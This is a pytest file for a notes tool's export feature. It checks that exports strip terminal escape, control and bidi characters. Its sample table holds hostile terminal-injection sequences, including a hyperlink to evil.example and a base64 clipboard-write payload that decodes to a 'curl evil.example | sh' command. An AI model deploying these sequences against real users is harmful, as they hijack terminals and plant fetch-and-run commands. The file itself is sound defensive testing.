"""No note can drive a terminal through an export: exported files and `export -o -`
carry no escape sequence, control or bidi character, and say how much was removed."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

from notetui.core.annotations.anchoring import attach
from notetui.core.export.front_matter import document
from notetui.core.export.markdown import Selection, export_library
from notetui.core.export.markup import counting_removals, one_line
from notetui.core.load.library import load_library

# What a hostile note can hide in its text: every one of these reached the terminal raw.
SEQUENCES = {
    "OSC 0 title": "\x1b]0;owned title\x07",
    "OSC 2 title, ST": "\x1b]2;other title\x1b\\",
    "OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "OSC 8 hyperlink": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "DCS": "\x1bP1$r0m\x1b\\",
    "APC": "\x1b_hidden payload\x1b\\",
    "PM": "\x1b^private\x1b\\",
    "SOS": "\x1bXstart of string\x1b\\",
    "RIS": "\x1bc",
    "CSI 2J": "\x1b[2J",
    "CSI H": "\x1b[H",
    "DSR 6n": "\x1b[6n",
    "alternate screen": "\x1b[?1049h",
    "SGR": "\x1b[31;1m",
    "C1 CSI": "\x9b2J",
    "C1 OSC": "\x9d0;c1 title\x9c",
    "C1 NEL": "\x85",
    "BEL": "\x07",
    "backspace": "\x08\x08",
    "carriage return": "\r",
    "vertical tab, form feed": "\x0b\x0c",
    "DEL": "\x7f",
    "bidi override": "\u202e",
    "bidi isolates and marks": "\u2066\u2069\u200f\u061c",
}
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def hostile_note() -> str:
    lines = [f"- {name}: before {text} after" for name, text in SEQUENCES.items()]
    return (
        "---\ntitle: Quiet Protocol Meetup\ndate: 2025-04-02\nauthor: mallory\n---\n\n"
        "## 19:00 Escapes in plain sight\n"
        + "\n".join(lines)
        + "\n\n## 19:30 A second talk \x1b]0;in a heading\x07here\n- nothing odd\n"
    )


def assert_clean(text: str) -> None:
    assert "\x1b" not in text
    assert UNSAFE.search(text) is None, repr(UNSAFE.search(text))
    for name in SEQUENCES:
        assert f"{name}: before" in text  # the note's own words stay


def test_exported_files_drop_every_sequence_and_say_so(tmp_path: Path) -> None:
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "hostile.md").write_text(hostile_note(), encoding="utf-8")
    library = load_library(notes, cache=False)
    assert len(library.talks) == 2
    out = tmp_path / "out"
    for split in ("talk", "event", "single"):
        result = export_library(
            library, attach(library, [], []), Selection(), out / split, split=split
        )
        texts = [path.read_bytes().decode("utf-8") for path in result.written]
        assert texts
        for text in texts:
            assert text.startswith("---\n")  # the front matter still comes first
            assert "\x1b" not in text and UNSAFE.search(text) is None, split
        (talk,) = [t for t in texts if "OSC 0 title: before" in t]
        assert_clean(talk)
        assert re.search(r"\n---\n\n<!-- notetui: removed \d+ characters of escape", talk)


def test_export_to_standard_output_drops_them_too(
    tmp_path: Path, run_notetui: Callable[..., Any]
) -> None:
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "hostile.md").write_text(hostile_note(), encoding="utf-8")
    for extra in ((), ("--merged",)):
        result = run_notetui("export", notes, "-o", "-", *extra)
        assert result.returncode == 0, result.stderr
        assert_clean(result.stdout)
        assert "notetui: removed" in result.stdout


def test_clean_text_is_left_exactly_as_it_is() -> None:
    with counting_removals():
        text = document({"title": "x"}, ["# Title", "- tabs\tstay, 日本語も"])
    assert text == "---\ntitle: x\n---\n\n# Title\n\n- tabs\tstay, 日本語も\n"


def test_the_comment_follows_the_front_matter_and_counts_every_removal() -> None:
    with counting_removals():
        heading = one_line("A talk\u202e")  # 1, removed while the heading is written
        text = document({"title": heading}, [f"# {heading}", "verbatim\x1b[2J text"])  # 4
    assert text == (
        "---\ntitle: A talk\n---\n\n"
        "<!-- notetui: removed 5 characters of escape sequences, control and bidi characters -->"
        "\n\n# A talk\n\nverbatim text\n"
    )
